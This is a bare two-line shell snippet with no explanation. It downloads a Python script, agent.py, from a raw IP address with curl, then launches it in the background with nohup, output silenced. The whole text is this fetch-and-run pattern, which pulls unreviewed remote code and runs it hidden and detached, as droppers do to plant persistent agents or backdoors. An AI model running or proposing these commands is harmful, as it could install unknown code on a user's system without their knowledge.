curl -s http://203.0.113.2/agent.py -o agent.py
nohup python3 agent.py >/dev/null 2>&1 &
